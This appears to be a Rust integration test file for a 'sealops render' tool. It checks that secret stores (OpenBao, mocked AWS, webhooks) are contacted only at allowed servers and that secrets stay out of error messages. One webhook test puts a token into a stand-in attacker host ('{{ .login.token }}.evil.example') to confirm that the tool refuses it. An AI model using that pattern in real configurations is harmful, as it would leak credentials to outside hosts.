//! `sealops render` with the stores of a network: OpenBao, moto, an endpoint of OpenBao as a webhook.

use std::fmt::Write;
use std::sync::OnceLock;
use std::time::Duration;

use sealops_formats::base64;
use sealops_testenv::{Moto, OpenBaoServer, Recorder};
use serde_json::json;

use crate::sandbox::Sandbox;

const ROLE_ID: &str = "role-of-the-folder";
const SECRET_ID: &str = "CANARY-secret-id-5b1d";
const VALUE: &str = "CANARY-value-77aa";
const KEYS: usize = 5;
const OBJECTS: usize = 50;

/// The server of these tests: KV v2 at `secret`, a role that may read it.
pub(crate) fn bao() -> &'static OpenBaoServer {
    static SERVER: OnceLock<OpenBaoServer> = OnceLock::new();
    SERVER.get_or_init(|| {
        let server = OpenBaoServer::start().unwrap();
        for (path, body) in [
            ("sys/mounts/secret", json!({ "type": "kv", "options": { "version": "2" } })),
            ("sys/auth/approle", json!({ "type": "approle" })),
            (
                "sys/policies/acl/read",
                json!({ "policy": "path \"secret/*\" { capabilities = [\"read\", \"list\"] }" }),
            ),
            ("auth/approle/role/app", json!({ "token_policies": "read", "token_ttl": "1h" })),
            ("auth/approle/role/app/role-id", json!({ "role_id": ROLE_ID })),
            ("auth/approle/role/app/custom-secret-id", json!({ "secret_id": SECRET_ID })),
        ] {
            server.put(path, &body).unwrap();
        }
        for number in 0..KEYS {
            let data = json!({ "data": { "user": format!("user-{number}"), "pass": VALUE, "n": { "deep": number } } });
            // A mount of version 2 is upgraded in the background.
            until(|| server.put(&format!("secret/data/app-{number}"), &data).is_ok());
        }
        server
    })
}

fn until(mut done: impl FnMut() -> bool) {
    let end = std::time::Instant::now() + sealops_testenv::stretched(Duration::from_secs(20));
    while !done() {
        assert!(std::time::Instant::now() < end, "OpenBao takes no value");
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// A store whose AppRole login stands in a SealedSecret, and many ExternalSecrets.
pub(crate) fn vault_folder(sandbox: &Sandbox, url: &str, objects: usize) {
    let login = format!(
        "kind: Secret\napiVersion: v1\nmetadata: {{name: login, namespace: shop}}\nstringData: {{id: {SECRET_ID}}}\n"
    );
    let sealed = sandbox.run("sealops seal --cert keys/interop-2048.crt", login).ok();
    sandbox.write("in/login.yaml", sealed);
    let store = format!(
        "apiVersion: external-secrets.io/v1\nkind: SecretStore\nmetadata: {{name: vault, namespace: shop}}\nspec:\n  \
         provider:\n    vault:\n      server: {url}\n      path: secret\n      version: v2\n      auth:\n        \
         appRole: {{path: approle, roleId: {ROLE_ID}, secretRef: {{name: login, key: id}}}}\n"
    );
    sandbox.write("in/store.yaml", store);
    let mut text = String::new();
    for number in 0..objects {
        let key = number % KEYS;
        write!(
            text,
            "---\napiVersion: external-secrets.io/v1\nkind: ExternalSecret\nmetadata: {{name: app-{number}, namespace: shop}}\n\
             spec:\n  secretStoreRef: {{name: vault, kind: SecretStore}}\n  data:\n  \
             - {{secretKey: user, remoteRef: {{key: app-{key}, property: user}}}}\n  \
             - {{secretKey: pass, remoteRef: {{key: app-{key}, property: pass}}}}\n"
        )
        .unwrap();
    }
    sandbox.write("in/objects.yaml", text);
}

#[test]
fn a_store_is_asked_where_that_is_allowed_with_one_login_and_one_call_a_key() {
    let recorder = Recorder::start(bao().address(), Duration::from_millis(20));
    let sandbox = Sandbox::new();
    vault_folder(&sandbox, &recorder.url(), OBJECTS);
    let url = recorder.url();

    let closed = sandbox.run("sealops render in --key keys/interop-2048.key", "");
    closed.fails(
        1,
        &[
            &format!("{url} is not on the list of servers"),
            &format!("hint: --allow-server {url}"),
            "nothing was sent",
        ],
    );
    let other = "sealops render in --key keys/interop-2048.key --allow-server https://vault.example.com";
    sandbox.run(other, "").fails(1, &[&format!("--allow-server {url}")]);
    assert_eq!(recorder.count("/v1/"), 0, "nobody was asked");

    let open = format!("sealops render in --key keys/interop-2048.key --allow-server {url}");
    let out = sandbox.run(&open, "").ok();
    assert_eq!(out.matches("kind: Secret").count(), OBJECTS + 1);
    for number in 0..KEYS {
        let user = base64::encode_public(format!("user-{number}").as_bytes());
        assert_eq!(out.matches(&user).count(), OBJECTS / KEYS, "user-{number}");
    }
    assert_eq!(recorder.count("/v1/auth/approle/login"), 1, "one login");
    assert_eq!(recorder.count("GET /v1/secret/data/"), KEYS, "one call a key");
    assert!(recorder.most_at_once() > 1, "calls wait side by side");
    assert_eq!(
        sandbox.run(&open.replace("--allow-server", "--allow-server http://x --allow-server"), "").ok(),
        out
    );
    let all = "sealops render in --key keys/interop-2048.key --allow-network";
    assert_eq!(sandbox.run(all, "").ok(), out);
}

#[test]
fn what_fails_is_said_without_values_and_a_silent_server_is_no_hang() {
    let recorder = Recorder::start(bao().address(), Duration::ZERO);
    let sandbox = Sandbox::new();
    vault_folder(&sandbox, &recorder.url(), 2);
    let objects = sandbox.read("in/objects.yaml").replace("property: user", "property: nobody");
    sandbox.write("in/objects.yaml", objects);
    let open = "sealops render in --key keys/interop-2048.key --allow-network";
    let run = sandbox.run(open, "");
    run.fails(1, &["2 objects cannot be rendered", "app-0", "nobody", "objects.yaml:"]);
    assert!(!run.err.contains("CANARY"), "{}", run.err);

    recorder.never_answer("/v1/secret/data/");
    let run = sandbox.run(&format!("{open} --store-timeout 2"), "");
    run.fails(3, &["within the 2 s that all objects have together"]);
    let line = "sealops render in --key keys/interop-2048.key --allow-server vault.example.com";
    sandbox.run(line, "").fails(2, &["--allow-server", "has to begin with https://"]);
}

#[test]
fn a_service_account_is_stood_in_for_at_its_own_server_only() {
    let sandbox = Sandbox::new();
    let url = bao().url();
    vault_folder(&sandbox, &url, 1);
    let store = sandbox.read("in/store.yaml");
    let start = store.find("        appRole").unwrap();
    let account =
        format!("{}        kubernetes: {{role: app, serviceAccountRef: {{name: app}}}}\n", &store[..start]);
    sandbox.write("in/store.yaml", account);
    let line = "sealops render in --key keys/interop-2048.key --allow-network";
    sandbox
        .run(line, "")
        .fails(1, &["tokens of service accounts come from a cluster only", "--own-identity"]);
    let own = format!("{line} --own-identity");
    sandbox.run(&own, "").fails(1, &["VAULT_ADDR"]);
    let token = bao().root_token();
    let with = |address: &str| sandbox.run_with(&own, "", &[("VAULT_ADDR", address), ("VAULT_TOKEN", token)]);
    assert!(with(&url).ok().contains(&base64::encode_public(b"user-0")));
    let elsewhere = with("https://vault.example.com");
    elsewhere.fails(1, &["is for https://vault.example.com (VAULT_ADDR) and was not sent elsewhere"]);
    assert!(!elsewhere.err.contains(token));
}

const AWS: &str = "apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: {name: aws}
spec:
  provider:
    aws: {service: SecretsManager, region: eu-west-1}
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: {name: web, namespace: shop}
spec:
  secretStoreRef: {name: aws, kind: ClusterSecretStore}
  dataFrom: [{extract: {key: web}}]
";

#[test]
fn aws_is_asked_with_this_machines_identity_where_it_is_lent() {
    let moto = Moto::start().unwrap();
    let create = json!({ "Name": "web", "SecretString": format!("{{\"user\":\"{VALUE}\"}}") });
    moto.call("secretsmanager", "eu-west-1", "secretsmanager.CreateSecret", &create.to_string()).unwrap();
    let sandbox = Sandbox::new();
    sandbox.write("in/aws.yaml", AWS);
    let url = moto.url();
    let variables = [
        ("AWS_ENDPOINT_URL", url.as_str()),
        ("AWS_ACCESS_KEY_ID", "AKIAFAKE"),
        ("AWS_SECRET_ACCESS_KEY", "fake"),
    ];
    let line = format!("sealops render in --allow-server {url}");
    let run = sandbox.run_with(&line, "", &variables);
    run.fails(1, &["this machine's own are not lent to it", "hint: --own-identity"]);
    let line = "sealops render in --own-identity --allow-server https://*.eu-west-1.amazonaws.com";
    sandbox.run_with(line, "", &variables).fails(1, &[&format!("--allow-server {url}")]);
    let none = sandbox.run_with("sealops render in --own-identity", "", &variables[1..]);
    none.fails(1, &["--allow-server https://secretsmanager.eu-west-1.amazonaws.com"]);
    let line = format!("sealops render in --own-identity --allow-server {url}");
    let out = sandbox.run_with(&line, "", &variables).ok();
    assert!(out.contains(&base64::encode_public(VALUE.as_bytes())), "{out}");
}

#[test]
fn a_profile_with_an_mfa_device_is_an_error_where_nobody_is_asked() {
    let moto = Moto::start().unwrap();
    let recorder = Recorder::start(moto.address(), Duration::ZERO);
    let sandbox = Sandbox::new();
    sandbox.write("in/aws.yaml", AWS);
    sandbox.write(
        "aws.ini",
        "[profile work]\nrole_arn = arn:aws:iam::123456789012:role/r\nmfa_serial = GAHT12345678\nsource_profile = base\n\
         [profile base]\naws_access_key_id = AKIDBASE\naws_secret_access_key = fake\n",
    );
    let (url, config) = (recorder.url(), sandbox.path("aws.ini").display().to_string());
    let variables =
        [("AWS_ENDPOINT_URL", url.as_str()), ("AWS_PROFILE", "work"), ("AWS_CONFIG_FILE", &config)];
    let line = format!("sealops render in --own-identity --allow-server {url}");
    let run = sandbox.run_with(&line, "", &variables);
    run.fails(1, &["AWS profile \"work\"", "GAHT12345678", "credential_process"]);
    assert_eq!(recorder.count("Action="), 0);
}

const WEBHOOK: &str = "apiVersion: v1
kind: Secret
metadata: {name: token, namespace: shop, labels: {external-secrets.io/type: webhook}}
stringData: {token: TOKEN}
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: {name: hook, namespace: shop}
spec:
  provider:
    webhook:
      url: 'URL/v1/secret/data/{{ .remoteRef.key }}'
      headers: {X-Vault-Token: '{{ .login.token }}'}
      result: {jsonPath: $.data.data.user}
      secrets: [{name: login, secretRef: {name: token}}]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: {name: hooked, namespace: shop}
spec:
  secretStoreRef: {name: hook}
  data: [{secretKey: a, remoteRef: {key: app-3}}]
";

#[test]
fn an_endpoint_gets_a_secret_of_the_folder_only_where_it_is_allowed() {
    let recorder = Recorder::start(bao().address(), Duration::ZERO);
    let sandbox = Sandbox::new();
    let folder = WEBHOOK.replace("TOKEN", bao().root_token()).replace("URL", &recorder.url());
    sandbox.write("in/hook.yaml", &folder);
    let url = recorder.url();
    sandbox.run("sealops render in", "").fails(1, &[&format!("hint: --allow-server {url} lets")]);
    assert_eq!(recorder.count("/v1/"), 0);
    let out = sandbox.run(&format!("sealops render in --allow-server {url}"), "").ok();
    assert!(out.contains(&base64::encode_public(b"user-3")), "{out}");

    // A host that a template makes: it could be anybody's, and hold the Secret.
    let folder = folder.replace(&format!("{url}/v1"), "http://{{ .login.token }}.evil.example/v1");
    sandbox.write("in/hook.yaml", folder);
    let run = sandbox.run(&format!("sealops render in --allow-server {url}"), "");
    run.fails(1, &["a template makes the host"]);
    assert!(!run.err.contains(bao().root_token()), "{}", run.err);
}

const GENERATORS: &str = "apiVersion: generators.external-secrets.io/v1alpha1
kind: Password
metadata: {name: fresh, namespace: shop}
spec: {length: 30, noUpper: false, allowRepeat: true}
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: {name: made, namespace: shop}
spec:
  dataFrom: [{sourceRef: {generatorRef: {kind: Password, name: fresh}}}]
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: Fake
metadata: {name: fixed, namespace: shop}
spec: {data: {a: fixed-value}}
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: {name: same, namespace: shop}
spec:
  dataFrom: [{sourceRef: {generatorRef: {kind: Fake, name: fixed}}}]
";

const MERGES: &str = "apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: {name: fake, namespace: shop}
spec: {provider: {fake: {data: [{key: k, value: new}]}}}
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: {name: nowhere, namespace: shop}
spec:
  secretStoreRef: {name: fake}
  target: {creationPolicy: Merge}
  data: [{secretKey: a, remoteRef: {key: k}}]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: {name: into, namespace: shop}
spec:
  secretStoreRef: {name: fake}
  target: {name: base, creationPolicy: Merge}
  data: [{secretKey: a, remoteRef: {key: k}}]
---
apiVersion: v1
kind: Secret
metadata: {name: base, namespace: shop}
stringData: {b: old}
---
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: {name: push, namespace: shop}
spec: {secretStoreRefs: [{name: fake}], selector: {secret: {name: base}}}
";

#[test]
fn generators_merges_and_pushes_are_as_the_help_says() {
    let sandbox = Sandbox::new();
    sandbox.write("in/generators.yaml", GENERATORS);
    sandbox
        .run("sealops render in", "")
        .fails(1, &["1 object cannot", "shop/made", "Password fresh", "generators"]);
    let out = sandbox.run("sealops render in --allow-generators", "").ok();
    assert!(out.contains("name: made") && out.contains(&base64::encode_public(b"fixed-value")), "{out}");

    let sandbox = Sandbox::new();
    sandbox.write("in/merges.yaml", MERGES);
    let run = sandbox.run("sealops render in", "");
    for text in [
        "left out: merges.yaml:6: ExternalSecret shop/nowhere: its target is merged into, and is not in the folder",
        "PushSecret shop/push: it writes into stores, which rendering never does",
    ] {
        assert!(run.err.contains(text), "{}", run.err);
    }
    let out = run.ok();
    assert_eq!(out.matches("kind: Secret").count(), 1);
    assert!(out.contains("name: base") && out.contains("a: bmV3") && out.contains("b: b2xk"), "{out}");
}

/// A store logs in with a Secret that another ExternalSecret makes.
#[test]
fn secrets_that_are_made_serve_others() {
    let sandbox = Sandbox::new();
    vault_folder(&sandbox, &bao().url(), 1);
    let path = "secret/data/second";
    bao().put(path, &json!({ "data": { "id": SECRET_ID } })).unwrap();
    let chain = "apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: {name: second, namespace: shop}
spec:
  secretStoreRef: {name: vault}
  data: [{secretKey: id, remoteRef: {key: second, property: id}}]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: {name: a-first, namespace: shop}
spec:
  secretStoreRef: {name: third}
  data: [{secretKey: x, remoteRef: {key: app-4, property: user}}]
---
";
    let store = sandbox
        .read("in/store.yaml")
        .replace("name: vault", "name: third")
        .replace("name: login", "name: second");
    sandbox.write("in/a-chain.yaml", format!("{chain}{store}"));
    let out = sandbox.run("sealops render in --key keys/interop-2048.key --allow-network", "").ok();
    assert!(out.contains(&base64::encode_public(b"user-4")), "{out}");
}
